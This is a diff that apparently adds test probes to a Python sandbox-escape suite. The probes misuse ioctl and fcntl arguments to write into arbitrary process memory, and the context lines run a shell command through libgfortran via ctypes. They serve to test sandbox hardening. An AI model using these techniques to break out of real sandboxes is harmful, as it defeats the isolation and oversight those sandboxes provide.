@@ -198,6 +198,25 @@ library = made_by_import(functools.partial(ctypes.CDLL, name))
 function = made_by_import(functools.partial(getattr, library, "_gfortran_system_sub"))
 made_by_import(functools.partial(function, command, None, len(command)))
 
+# %% memory by the argument of a request — a number is taken for an address; here of memory that has one of 31 bits
+import fcntl, mmap
+space = mmap.mmap(-1, 1 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)
+address = [int(line.split("-")[0], 16) for line in open("/proc/self/maps") if len(line.split("-")[0]) == 8][0]
+reader, writer = os.pipe()
+os.write(writer, b"x" * 65)
+fcntl.ioctl(reader, 0x541b, address)
+print("ESCAPED" if b"A" in space[:] else "")
+
+# %% memory by the argument of a command — an object that is memory at first and a number then
+# python: 3.12
+import fcntl, mmap
+space = mmap.mmap(-1, 1 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)
+address = [int(line.split("-")[0], 16) for line in open("/proc/self/maps") if len(line.split("-")[0]) == 8][0]
+space[0] = 1
+Sly = type("Sly", (), {"__buffer__": lambda self, flags: 1 / 0, "__index__": lambda self: address})
+file = open("mine", "w+")
+print("ESCAPED" if fcntl.fcntl(file, fcntl.F_GETLK, Sly()) == 0 and space[0] == 2 else "")
+
 # %% memory by the filter of a socket — its address is in the value, and it comes back beyond the end of what takes it
 import asyncio.base_events, struct
 one, two = asyncio.base_events.socket.socketpair()
